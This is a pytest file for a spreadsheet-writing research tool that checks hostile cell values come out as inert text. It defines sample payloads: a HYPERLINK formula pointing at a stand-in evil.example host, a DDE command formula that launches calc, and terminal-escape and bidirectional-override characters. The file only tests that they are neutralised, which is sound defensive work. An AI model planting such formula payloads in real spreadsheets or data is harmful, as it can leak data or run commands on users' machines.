"""Hostile text in any sheet prismaflow writes: formulas stay text, characters a sheet cannot
hold are replaced, bidirectional controls are shown (#18, items 3 and 5)."""

import math

import pandas as pd
import pyarrow as pa
from openpyxl import load_workbook

from prismaflow.extract.fields import field_specs
from prismaflow.extract.sheet import write_extraction_sheet
from prismaflow.formats.exporter import export_records
from prismaflow.records import records_table
from prismaflow.screen.worklist import write_worklist
from prismaflow.spreadsheet import cell_value

HOSTILE_AUTHOR = '=HYPERLINK("http://evil.example/?"&"'
HOSTILE_TITLE = "Bell\x07 escape\x1b[31m nul\x00 and \u202eevil\u202c"


def cells(path):
    return [c.value for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row]


def test_a_cell_value_is_harmless_text_or_empty():
    assert cell_value(HOSTILE_AUTHOR) == "'" + HOSTILE_AUTHOR
    assert (
        cell_value(HOSTILE_TITLE)
        == "Bell\ufffd escape\ufffd[31m nul\ufffd and <U+202E>evil<U+202C>"
    )
    assert cell_value(math.nan) is None and cell_value(pd.NA) is None and cell_value(3) == 3


def test_the_extraction_sheet_keeps_a_formula_author_as_text(tmp_path):
    studies = pd.DataFrame(
        {
            "record_id": ["pubmed:1"],
            "first_author": [HOSTILE_AUTHOR],
            "year": [2020],
            "journal": [HOSTILE_TITLE],
            "note": [HOSTILE_TITLE],
            "note_source": [None],
            "note_by": ["machine"],
            "note_confidence": [None],
        }
    )
    fields = field_specs({"note": {"type": "text", "description": "=cmd|' /C calc'!A0"}})
    write_extraction_sheet(studies, fields, tmp_path / "sheet.xlsx")
    values = [v for v in cells(tmp_path / "sheet.xlsx") if isinstance(v, str)]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    assert not any("\x07" in v or "\x00" in v or "\u202e" in v for v in values)


def test_the_worklist_and_an_xlsx_export_write_hostile_records(tmp_path):
    frame = pd.DataFrame({"title": [HOSTILE_TITLE], "abstract": [HOSTILE_AUTHOR]})
    write_worklist(
        frame, tmp_path / "worklist.xlsx", {"off": {"label": "@SUM(1)", "phase": "both"}}
    )
    table = records_table(
        [{"record_id": "x:1", "source": "x", "source_id": "1", "title": HOSTILE_TITLE}]
    )
    assert isinstance(table, pa.Table)
    export_records(table, tmp_path / "export.xlsx", "xlsx")
    # The worklist's frame kept the BEL (the cell writer replaces it); the records lost it on
    # the way in (records_table takes control characters out).
    for name, mark in (("worklist.xlsx", "\ufffd"), ("export.xlsx", "")):
        values = [v for v in cells(tmp_path / name) if isinstance(v, str)]
        assert any(mark in v and "\x07" not in v and "escape" in v for v in values), name
        assert not any(v.startswith(("=", "@")) for v in values), name
